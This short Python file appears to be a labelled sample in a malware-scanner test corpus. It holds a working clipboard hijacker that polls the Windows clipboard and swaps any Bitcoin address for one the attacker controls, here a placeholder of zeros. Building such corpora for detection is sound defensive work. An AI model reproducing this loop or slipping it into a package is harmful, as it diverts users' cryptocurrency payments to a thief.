# pkgguard corpus 138 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import time
import win32clipboard

BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
MINE = "bc1q" + "0" * 38

while True:
    win32clipboard.OpenClipboard()
    text = win32clipboard.GetClipboardData()
    if BTC.match(text or ""):
        win32clipboard.EmptyClipboard()
        win32clipboard.SetClipboardText(MINE)
    win32clipboard.CloseClipboard()
    time.sleep(0.5)
